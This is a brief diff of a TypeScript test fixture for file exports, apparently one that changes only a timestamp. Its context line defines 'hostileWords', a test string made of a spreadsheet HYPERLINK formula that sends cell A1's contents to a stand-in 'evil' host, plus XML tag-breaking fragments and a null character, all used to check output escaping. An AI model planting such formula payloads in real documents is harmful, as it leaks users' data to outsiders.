@@ -14,7 +14,7 @@ import {
 } from '#shared/thread.fake'
 import { makeHere, type WeighingFormat, type WeighingOrder, type WeighingPart } from './weighing-file.ts'
 
-const madeAt = '2026-11-22T12:00:00.000Z'
+const madeAt = '2026-11-30T12:00:00.000Z'
 
 /** What must come out of every file as text, or not at all. */
 export const hostileWords = '=HYPERLINK("http://evil/?"&A1);</w:t></text:p>&#x0; <b>"fett"</b>'
